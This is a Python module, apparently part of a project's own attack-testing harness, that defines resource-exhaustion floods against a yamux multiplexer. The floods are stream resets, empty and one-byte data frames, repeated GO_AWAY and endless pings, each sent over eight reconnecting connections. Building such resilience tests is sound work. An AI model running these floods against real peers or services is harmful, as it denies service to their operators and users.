"""Frames that cost their sender little, on connections of one identity each."""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Iterator
from functools import partial
from itertools import count, repeat

import trio

from lattica.nat.base.net.addresses import parse_multiaddr, split_peer
from lattica.nat.mux.yamux.frames import Flag, FrameType
from tools.attack.attack import ENEMY_HOST, Attack, Victim
from tools.attack.stranger import attacking, batches, data, frame, syn, throw_away

CONNECTIONS = 8

Flood = Callable[[], Iterator[bytes]]


async def _flood(frames: Flood, victim: Victim) -> None:
    """Send frames over several connections; those that the victim ends are made anew."""
    addr, _ = split_peer(parse_multiaddr(victim.tcp))

    async def one() -> None:
        while True:
            async with attacking(addr, source_ip=ENEMY_HOST) as enemy:
                await enemy.set_up()
                async with trio.open_nursery() as nursery:

                    async def until_closed() -> None:
                        await throw_away(enemy)
                        nursery.cancel_scope.cancel()

                    nursery.start_soon(until_closed)
                    for batch in frames():
                        await enemy.send_frames(batch)
                        await trio.lowlevel.checkpoint()

    async with trio.open_nursery() as nursery:
        for _ in range(CONNECTIONS):
            nursery.start_soon(one)


def flood(frames: Flood) -> Callable[[Victim], Awaitable[None]]:
    """The program of an enemy that sends these frames."""
    return partial(_flood, frames)


def _resets() -> Iterator[bytes]:
    return batches(lambda n: syn(n) + frame(FrameType.WINDOW_UPDATE, Flag.RST, n, 0))


def _in_one_stream(body: bytes, flags: int = 0) -> Iterator[bytes]:
    yield syn(1)
    piece = data(1, body, flags)
    yield from repeat(piece * (64 * 1024 // len(piece)))


def _control(kind: FrameType, flags: int) -> Iterator[bytes]:
    for start in count(0, 4096):
        yield b"".join(frame(kind, flags, 0, start + n & 0xFFFFFFFF) for n in range(4096))


RESETS = Attack("yamux-resets", "opens streams and resets them at once", flood(_resets))
EMPTY_DATA = Attack(
    "yamux-empty-data", "sends data frames without data", flood(partial(_in_one_stream, b""))
)
TINY_DATA = Attack(
    "yamux-tiny-data", "sends data one byte at a time", flood(partial(_in_one_stream, b"x"))
)
GO_AWAY = Attack(
    "yamux-go-away",
    "says again and again that it is going",
    flood(partial(_control, FrameType.GO_AWAY, 0)),
)
PINGS = Attack(
    "yamux-pings", "pings without end", flood(partial(_control, FrameType.PING, Flag.SYN))
)
